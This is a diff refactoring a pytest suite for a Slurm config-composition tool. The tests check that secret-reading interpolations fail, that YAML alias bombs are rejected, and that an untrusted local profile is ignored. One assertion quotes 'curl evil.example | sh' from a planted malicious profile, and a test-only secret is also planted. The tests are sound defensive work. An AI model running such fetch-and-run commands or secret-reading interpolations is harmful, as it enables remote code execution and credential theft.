@@ -12,21 +12,22 @@ import pytest
 from typer.testing import CliRunner
 
 from ablate.cli import app
-from ablate.compose import MAX_RUNS, MAX_YAML_NODES, check_yaml, compose_run, interpolation_problem
+from ablate.compose import compose_run
 from ablate.config import ConfigErrors
 from ablate.errors import UserError
-from ablate.launch import slurm
 from ablate.launch.slurm import find_profile, load_profile
+from ablate.overrides import MAX_RUNS
+from ablate.resources import PROFILES_DIR
+from ablate.safe_yaml import MAX_YAML_NODES, check_yaml, interpolation_problem
 from jobs import RECIPE, TOY_JOB
 
 RECIPES = RECIPE.parent
-SECRET = "hunter2-do-not-store"
+SECRET = "hunter2-do-not-store"  # noqa: S105 (a planted value no stored config may hold)
 runner = CliRunner()
 
 
 @pytest.fixture(autouse=True)
-def _env(tmp_path_factory, monkeypatch):
-    monkeypatch.setenv("ABLATE_CACHE", str(tmp_path_factory.getbasetemp() / "ablate-cache"))
+def _env(monkeypatch):
     monkeypatch.setenv("SECRET_TOKEN", SECRET)
 
 
@@ -156,12 +157,14 @@ def test_plain_and_relative_key_interpolations_still_compose(tmp_path):
 def test_a_resolver_the_grammar_check_missed_would_still_not_run(monkeypatch):
     """Defence in depth: with the grammar check switched off, composition resolves with no resolver registered, so
     `${oc.env:...}` (or one some library registered) fails instead of reading the environment."""
-    import ablate.compose as compose
     from omegaconf import OmegaConf
 
+    import ablate.safe_yaml as safe_yaml
+    from ablate.composer import Composer
+
     OmegaConf.register_new_resolver("h3_custom", lambda: SECRET, replace=True)
-    monkeypatch.setattr(compose, "interpolation_problem", lambda text: None)
-    compose.Composer._memory.clear()
+    monkeypatch.setattr(safe_yaml, "interpolation_problem", lambda text: None)
+    Composer._memory.clear()
     for value in ("${oc.env:SECRET_TOKEN}", "${h3_custom:}"):
         with pytest.raises(ConfigErrors, match="cannot resolve an interpolation") as e:
             compose_run(RECIPE, [f"task.path={value}"])
@@ -193,7 +196,7 @@ def test_an_alias_bomb_in_a_sweep_file_recipe_option_file_or_profile_is_one_line
 
     p = tmp_path / "profile.yaml"
     p.write_text("partition: debug\n" + laughs() + "setup: *l8\n")
-    with pytest.raises(UserError, match="profile.yaml: its YAML aliases"):
+    with pytest.raises(UserError, match=r"profile\.yaml: its YAML aliases"):
         load_profile(str(p))
 
 
@@ -219,11 +222,11 @@ def test_a_working_directory_profile_is_used_only_when_named_by_path(tmp_path, m
     (tmp_path / "slurm" / "local.yaml").write_text(EVIL_PROFILE)
     (tmp_path / "slurm" / "mine.yaml").write_text(EVIL_PROFILE)
     monkeypatch.chdir(tmp_path)
-    packaged = slurm.PROFILES_DIR / "local.yaml"
+    packaged = PROFILES_DIR / "local.yaml"
     for chosen in (None, "local"):
         assert find_profile(chosen) == packaged.resolve()
         assert "curl evil.example | sh" not in load_profile(chosen)["setup"]
-    with pytest.raises(UserError, match="profile 'mine' not found.*--profile ./slurm/mine.yaml"):
+    with pytest.raises(UserError, match=r"profile 'mine' not found.*--profile \./slurm/mine\.yaml"):
         find_profile("mine")
     for by_path in ("./slurm/local.yaml", "slurm/local.yaml", str(tmp_path / "slurm" / "local.yaml")):
         assert find_profile(by_path) == (tmp_path / "slurm" / "local.yaml").resolve()
@@ -235,11 +238,11 @@ def test_the_sbatch_script_names_the_profile_it_came_from(tmp_path):
 
     own = tmp_path / "cluster.yaml"
     own.write_text("partition: gpu\nsetup: [module load cuda]\n")
-    for chosen, path in ((None, slurm.PROFILES_DIR / "local.yaml"), ("example-cluster", None), (str(own), own)):
+    for chosen, path in ((None, PROFILES_DIR / "local.yaml"), ("example-cluster", None), (str(own), own)):
         params = load_profile(chosen)
         text = _make_sbatch_string(command="python -m submitit.core._submit X", folder=tmp_path / "%j", **params)
-        path = (path or slurm.PROFILES_DIR / f"{chosen}.yaml").resolve()
-        assert f"\n# setup\n# ablate profile: {path}\n" in text, text
+        named = (path or PROFILES_DIR / f"{chosen}.yaml").resolve()
+        assert f"\n# setup\n# ablate profile: {named}\n" in text, text
     assert text.index("# ablate profile:") < text.index("module load cuda") < text.index("# command")
 
 
